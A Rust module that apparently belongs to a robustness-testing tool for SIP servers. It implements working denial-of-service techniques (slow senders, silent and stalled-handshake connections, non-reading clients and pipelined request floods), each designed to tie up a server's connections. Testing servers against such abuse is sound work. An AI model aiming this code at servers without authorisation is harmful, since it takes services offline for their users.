//! The abuse itself: one thread that goes round all its connections.

use std::io::{self, Read, Write};
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::thread;
use std::time::{Duration, Instant};

use rustls::ClientConfig;

use super::wire::{Over, Stream, connect, open};
use super::{Abuse, Arguments, Counters, ILL_REQUESTS, add, wire};
use crate::streams::believing;

/// Requests that are sent at once.
const BATCH: usize = 50;

/// A step of a slow sender.
const STEP: Duration = Duration::from_millis(200);

/// How long a write or a read may hold up the round.
const TOUCH: Duration = Duration::from_millis(1);

/// What those who do not read let the system take for them.
const SMALL_WINDOW: usize = 4_096;

/// Who attacks whom.
pub(super) struct Attack<'a> {
    pub(super) arguments: &'a Arguments,
    pub(super) counters: &'a Counters,
}

/// Goes on until it is over, or for pipelined requests until all are answered.
pub(super) fn run(attack: &Attack<'_>) -> io::Result<()> {
    let tls = attack.arguments.authority.as_deref();
    let tls = tls.map(believing).transpose()?.map(Arc::new);
    match attack.arguments.abuse {
        Abuse::Pipeline => attack.pipeline(tls.as_ref()),
        _ => attack.go_round(tls.as_ref()),
    }
}

/// One ill-meaning connection.
struct Ill {
    stream: Box<dyn Stream>,
    /// What it says, again and again.
    says: Arc<[u8]>,
    /// How much of it is written.
    written: usize,
}

impl Attack<'_> {
    fn open(&self, tls: Option<&Arc<ClientConfig>>) -> io::Result<Ill> {
        let Arguments {
            over,
            target,
            abuse,
            ..
        } = *self.arguments;
        let window = (abuse == Abuse::Deaf).then_some(SMALL_WINDOW);
        let tcp = connect(wire::ILL, target, window)?;
        let address = tcp.local_addr()?;
        let stream: Box<dyn Stream> = match abuse {
            Abuse::Handshake | Abuse::Silent => Box::new(tcp),
            Abuse::Deaf | Abuse::Pipeline | Abuse::Slow => open(over, tls, tcp)?,
        };
        let says = match abuse {
            Abuse::Handshake => over.beginning(),
            Abuse::Silent => Vec::new(),
            Abuse::Slow => over.frame(&options(over, &address, "slow", 2_000)),
            Abuse::Deaf | Abuse::Pipeline => (0..BATCH)
                .flat_map(|number| over.frame(&options(over, &address, &number.to_string(), 0)))
                .collect(),
        };
        stream.tcp().set_write_timeout(Some(TOUCH))?;
        stream.tcp().set_read_timeout(Some(TOUCH))?;
        add(&self.counters.opened, 1);
        Ok(Ill {
            stream,
            says: says.into(),
            written: 0,
        })
    }

    /// Keeps all connections open and lets each say a little, again and again.
    fn go_round(&self, tls: Option<&Arc<ClientConfig>>) -> io::Result<()> {
        let mut all: Vec<Ill> = Vec::new();
        while !self.counters.is_over() {
            let round = Instant::now();
            while all.len() < self.arguments.connections && !self.counters.is_over() {
                match self.open(tls) {
                    Ok(ill) => all.push(ill),
                    // No room for more.
                    Err(_) => break,
                }
            }
            let before = all.len();
            all.retain_mut(|ill| self.counters.is_over() || self.speak(ill).is_ok());
            add(&self.counters.cut_off, before - all.len());
            let step = match self.arguments.abuse {
                Abuse::Deaf => TOUCH,
                _ => STEP,
            };
            thread::park_timeout(step.saturating_sub(round.elapsed()));
        }
        Ok(())
    }

    /// Lets one connection say a little. An error means that the server has had enough of it.
    fn speak(&self, ill: &mut Ill) -> io::Result<()> {
        match self.arguments.abuse {
            Abuse::Deaf | Abuse::Pipeline => {
                let rest = &ill.says[ill.written..];
                match ill.stream.write(rest) {
                    // TLS takes nothing while what it has waits for the peer.
                    Ok(length) => {
                        self.wrote(ill, length);
                        Ok(())
                    }
                    Err(error) if is_full(&error) => Ok(()),
                    Err(error) => Err(error),
                }
            }
            Abuse::Slow | Abuse::Handshake => {
                let next = [ill.says[ill.written % ill.says.len()]];
                ill.stream.write_all(&next)?;
                ill.stream.flush()?;
                ill.written += 1;
                still_open(ill)
            }
            Abuse::Silent => still_open(ill),
        }
    }

    fn wrote(&self, ill: &mut Ill, length: usize) {
        ill.written += length;
        if ill.written >= ill.says.len() {
            ill.written = 0;
            add(&self.counters.sent, BATCH);
        }
    }

    /// All requests on one connection, answers read as they come.
    fn pipeline(&self, tls: Option<&Arc<ClientConfig>>) -> io::Result<()> {
        let mut ill = self.open(tls)?;
        let mut answered = 0;
        let mut tail = Vec::new();
        let mut buffer = vec![0; 64 * 1024];
        while answered < ILL_REQUESTS {
            if self.counters.sent.load(Ordering::Relaxed) < ILL_REQUESTS as u64 {
                self.speak(&mut ill)?;
            }
            match ill.stream.read(&mut buffer) {
                Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
                Ok(length) => {
                    tail.extend_from_slice(&buffer[..length]);
                    let found = take_answers(&mut tail);
                    answered += found;
                    add(&self.counters.answered, found);
                }
                Err(error) if is_full(&error) => {}
                Err(error) => return Err(error),
            }
        }
        Ok(())
    }
}

/// Counts the answers in what was received, and keeps what may be the beginning of another.
fn take_answers(received: &mut Vec<u8>) -> usize {
    const START: &[u8] = b"SIP/2.0 ";
    let starts = received.windows(START.len()).filter(|at| *at == START);
    let count = starts.count();
    let keep = received.len().min(START.len() - 1);
    received.drain(..received.len() - keep);
    count
}

/// Whether the server still listens.
fn still_open(ill: &mut Ill) -> io::Result<()> {
    let mut byte = [0];
    match ill.stream.read(&mut byte) {
        Ok(0) => Err(io::ErrorKind::UnexpectedEof.into()),
        Ok(_) => Ok(()),
        Err(error) if is_full(&error) => Ok(()),
        Err(error) => Err(error),
    }
}

fn is_full(error: &io::Error) -> bool {
    use io::ErrorKind::{Interrupted, TimedOut, WouldBlock};
    matches!(error.kind(), WouldBlock | TimedOut | Interrupted)
}

/// A request that every server answers, whoever asks.
pub(super) fn options(
    over: Over,
    address: &dyn std::fmt::Display,
    id: &str,
    padding: usize,
) -> Vec<u8> {
    let transport = over.name();
    let padding = "x".repeat(padding);
    format!(
        "OPTIONS sip:localhost SIP/2.0\r\nVia: SIP/2.0/{transport} {address};branch=z9hG4bKo{id}\r\nMax-Forwards: 70\r\n\
         From: <sip:somebody@localhost>;tag=o{id}\r\nTo: <sip:localhost>\r\nCall-ID: o-{id}-{address}\r\nCSeq: 1 OPTIONS\r\n\
         X-Padding: {padding}\r\nContent-Length: 0\r\n\r\n"
    )
    .into_bytes()
}
